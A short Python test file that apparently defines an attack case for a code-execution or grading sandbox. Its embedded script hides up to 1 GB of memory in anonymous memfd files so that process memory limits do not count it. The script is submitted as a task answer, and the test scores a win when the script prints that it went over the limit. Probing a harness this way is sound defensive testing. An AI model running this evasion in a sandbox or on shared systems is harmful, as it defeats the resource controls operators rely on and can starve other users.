"""Take memory that no limit of a process counts: files without a name, pipes, sockets (1 GB)."""

from attacking import Attack

HIDES = """
import os
import socket

held, written = [], 0
block = bytes(1 << 20)
try:
    while written < 1 << 30:
        held.append(os.memfd_create("hidden"))
        try:
            for _ in range(100):
                written += os.write(held[-1], block)
        except OSError:
            pass
        if len(held) > 900:
            break
except (OSError, AttributeError) as error:
    print(error)
print("hidden", "OVER" if written >= 1 << 30 else "held", written >> 20)
for number in held:
    os.close(number)
"""
ATTACK = Attack(
    answers={"pairwise-l2": HIDES}, wins=lambda run: "hidden OVER" in run.said, unseen="hidden OVER"
)
